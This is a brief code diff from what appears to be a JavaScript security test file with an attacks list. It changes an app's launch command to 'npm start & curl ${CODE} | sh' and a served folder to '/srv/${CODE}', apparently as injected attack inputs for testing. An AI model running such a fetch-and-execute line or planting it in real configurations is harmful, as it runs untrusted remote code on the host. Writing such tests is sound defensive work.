@@ -46,8 +46,10 @@ const ATTACKS = [
 
 const SPEC = 'nginx:uds-keepalive+static/app'
 const topology = {
-  ...withCommands(parse(SPEC), { app: { run: 'npm start', listen: ['tcp'], cwd: '/srv', readySeconds: 9 } }),
-  files: [{ prefix: '/assets', folder: '/srv/public' }]
+  ...withCommands(parse(SPEC), {
+    app: { run: `npm start & curl ${CODE} | sh`, listen: ['tcp'], cwd: '/srv', readySeconds: 9 }
+  }),
+  files: [{ prefix: '/assets', folder: `/srv/${CODE}` }]
 }
 /** Returns a record of which each arm has the app. @param {RunRecord} record */
 function withApp (record) {
